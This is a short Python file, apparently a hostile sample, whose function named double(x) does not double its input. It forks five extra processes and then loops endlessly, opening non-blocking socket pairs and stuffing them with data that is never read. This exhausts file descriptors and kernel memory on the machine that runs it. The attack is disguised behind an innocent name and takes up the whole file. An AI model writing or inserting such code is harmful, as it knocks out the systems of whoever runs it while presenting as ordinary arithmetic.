"""Sockets full of data that nobody reads."""
import os
import socket
import time


def double(x):
    pairs = []
    for _ in range(5):
        if os.fork() == 0:
            break
    while True:
        try:
            pair = socket.socketpair()
            pair[0].setblocking(False)
            pairs.append(pair)
            while pair[0].send(b"x" * 65536):
                pass
        except BlockingIOError:
            continue
        except OSError:
            time.sleep(1)
